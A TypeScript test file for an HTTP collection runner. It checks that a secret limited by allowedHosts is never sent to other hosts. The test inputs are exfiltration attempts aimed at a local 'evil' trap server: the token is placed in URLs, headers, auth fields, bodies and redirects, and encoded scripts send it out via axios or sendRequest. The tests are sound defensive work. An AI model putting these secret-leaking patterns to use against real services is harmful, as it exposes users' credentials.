import { createServer } from "node:net";
import { describe, expect, onTestFinished, test } from "vitest";
import { httpServer } from "../../http/testing/loopback.ts";
import { httpsServer } from "../../http/testing/tls-servers.ts";
import {
	consoleOf,
	type FinishedRun,
	runFiles,
	type Scripts,
	scriptsField,
} from "../testing/run-files.ts";

const TOKEN = "s3cret-Token/with&signs-4711";

/** A server that counts connections: what it must not see is not only a request. */
async function trap(): Promise<{
	readonly url: string;
	readonly connections: () => number;
}> {
	let connections = 0;
	const server = createServer((socket) => {
		connections += 1;
		socket.destroy();
	});
	await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
	onTestFinished(() => void server.close());
	const address = server.address();
	const port = typeof address === "object" ? address?.port : 0;
	return { url: `http://127.0.0.1:${port}`, connections: () => connections };
}

function files(
	hosts: string,
	http: string,
	scripts: Scripts = {},
): Readonly<Record<string, string>> {
	const runtime = scriptsField(scripts);
	return {
		"opencollection.yml": `info:\n  name: Test\nextensions:\n  curlew:\n    secrets:\n      token:\n        allowedHosts: [${hosts}]\n`,
		"a.yml": `info:\n  name: a\nhttp:\n${http.replace(/^/gm, "  ")}\n${runtime && `runtime:\n${runtime}`}`,
	};
}

function resultOf({ events }: FinishedRun) {
	for (const event of events)
		if (event.type === "request-finished") return event.result;
	return undefined;
}

describe("a secret with allowedHosts", () => {
	test.each([
		["the URL", 'url: "{{evil}}/?t={{token}}"', 4],
		[
			"a header, by another variable",
			'url: "{{evil}}/"\nheaders:\n  - name: X\n    value: "{{auth}}"',
			7,
		],
		[
			"basic authentication",
			'url: "{{evil}}/"\nauth:\n  type: basic\n  username: ann\n  password: "{{token}}"',
			8,
		],
		[
			"a signature",
			'url: "{{evil}}/"\nauth:\n  type: awsv4\n  accessKeyId: a\n  secretAccessKey: "{{token}}"\n  region: r\n  service: s',
			8,
		],
		[
			"a JSON body",
			'url: "{{evil}}/"\nmethod: POST\nbody:\n  type: json\n  data: \'{"a": "{{token}}"}\'',
			8,
		],
		[
			"a multipart form",
			'url: "{{evil}}/"\nmethod: POST\nbody:\n  type: multipart-form\n  data:\n    - name: a\n      type: text\n      value: "{{token}}"',
			11,
		],
	])(
		"is not sent elsewhere in %s, and no connection is opened",
		async (_, http, line) => {
			const evil = await trap();
			const run = await runFiles(
				{
					...files("api.example.com", http),
					"environments/dev.yml":
						'name: dev\nvariables:\n  - name: auth\n    value: "Bearer {{token}}"\n',
				},
				{ environment: "dev", overrides: { token: TOKEN, evil: evil.url } },
			);
			const result = resultOf(run);
			expect(result?.status).toBe("error");
			const [problem] = result?.problems ?? [];
			expect(problem).toMatchObject({
				code: "SECRET_NOT_ALLOWED_HERE",
				message: expect.stringContaining(
					`send the secret \`token\` to ${evil.url}`,
				),
				hint: expect.stringContaining("allowedHosts"),
				location: { line },
			});
			expect(problem?.message).toMatch(/^`\{\{(token|auth)\}\}` in /);
			expect(problem?.location?.file).toMatch(/a\.yml$/);
			expect(evil.connections()).toBe(0);
		},
	);

	test("is not sent to a server whose certificate nobody verifies, unless its user says so", async () => {
		const { url } = await httpsServer("self-signed");
		const http =
			'url: "{{other}}/"\nauth:\n  type: bearer\n  token: "{{token}}"';
		const unverified = `${files("loopback", http)["a.yml"]}settings:\n  verifyCertificate: false\n`;
		const collection = { ...files("loopback", http), "a.yml": unverified };
		const overrides = { token: TOKEN, other: url };
		const refused = await runFiles(collection, { overrides });
		expect(resultOf(refused)?.failure).toMatchObject({
			code: "SECRET_NOT_ALLOWED_HERE",
			message: expect.stringContaining("without verifying its certificate"),
		});
		const sent = await runFiles(collection, {
			overrides,
			http: { insecure: true },
		});
		expect(resultOf(sent)?.response?.status).toBe(200);
	});

	test("is sent where it may go", async () => {
		const received: string[] = [];
		const server = await httpServer((message, response) => {
			received.push(`${message.headers.authorization}`);
			response.end("{}");
		});
		const { port } = new URL(server.url);
		for (const host of ["loopback", `127.0.0.1:${port}`, "'*'"]) {
			const run = await runFiles(
				files(
					host,
					'url: "{{other}}/"\nauth:\n  type: bearer\n  token: "{{token}}"',
				),
				{ overrides: { token: TOKEN, other: server.url } },
			);
			expect(resultOf(run)?.problems).toEqual([]);
		}
		expect(received).toEqual(Array(3).fill(`Bearer ${TOKEN}`));
	});

	test.each([307, 302])(
		"does not follow a redirect (%i) to another host, whatever it hides in",
		async (status) => {
			const evil = await trap();
			const server = await httpServer((message, response) => {
				response.statusCode = status;
				response.setHeader("location", `${evil.url}/next${message.url}`);
				response.end();
			});
			const { port } = new URL(server.url);
			const run = await runFiles(
				files(
					`127.0.0.1:${port}`,
					'url: "{{other}}/?t={{token}}"\nmethod: POST\nheaders:\n  - name: X-Custom\n    value: "{{token}}"\nbody:\n  type: text\n  data: "{{token}}"',
				),
				{ overrides: { token: TOKEN, other: server.url } },
			);
			expect(resultOf(run)?.failure).toMatchObject({
				code: "SECRET_NOT_ALLOWED_HERE",
				message: expect.stringContaining(`to ${evil.url}`),
			});
			expect(evil.connections()).toBe(0);
		},
	);

	test.each([
		[
			"sendRequest",
			"await client.sendRequest({ url: evil, headers: { a: made } })",
		],
		["axios", 'await require("axios").post(evil, { made })'],
		[
			"a variable",
			'client.setVar("made", made); req.setUrl(evil + "/{{made}}")',
		],
		["setHeader", 'req.setHeader("x", made); req.setUrl(evil)'],
	])("is not sent elsewhere by a script: %s", async (_, code) => {
		const makings = [
			"token",
			"btoa(token)",
			'Buffer.from(token).toString("hex")',
			'require("crypto").createHmac("sha256", token).update("a").digest("hex")',
		];
		for (const making of makings) {
			const evil = await trap();
			const run = await runFiles(
				files("loopback:1", 'url: "{{evil}}/plain"', {
					"before-request": `const evil = client.getEnvVar("evil"); const token = client.getSecretVar("token"); const made = ${making};
try { ${code} } catch (error) { console.log(error.code + " " + error.message); req.setUrl("http://127.0.0.1:1/"); }`,
				}),
				{ overrides: { token: TOKEN, evil: evil.url } },
			);
			const told = JSON.stringify([consoleOf(run), resultOf(run)]);
			expect(told, making).toContain("SECRET_NOT_ALLOWED_HERE");
			expect(evil.connections(), making).toBe(0);
		}
	});

	test("is not sent elsewhere to obtain a token", async () => {
		const evil = await trap();
		const run = await runFiles(
			files(
				"api.example.com",
				'url: "{{host}}/"\nauth:\n  type: oauth2\n  flow: client_credentials\n  accessTokenUrl: "{{evil}}/token"\n  credentials:\n    clientId: me\n    clientSecret: "{{token}}"',
			),
			{ overrides: { token: TOKEN, evil: evil.url } },
		);
		expect(resultOf(run)?.problems[0]?.message).toContain(
			`would send the secret \`token\` to ${evil.url}`,
		);
		expect(evil.connections()).toBe(0);
	});

	test("goes nowhere where the list is empty, and everywhere where there is none", async () => {
		const evil = await trap();
		const http = 'url: "{{evil}}/{{token}}"';
		const overrides = { token: TOKEN, evil: evil.url };
		const run = await runFiles(files("", http), { overrides });
		expect(resultOf(run)?.problems[0]?.message).toContain(
			"It may be sent nowhere.",
		);
		expect(evil.connections()).toBe(0);
	});
});
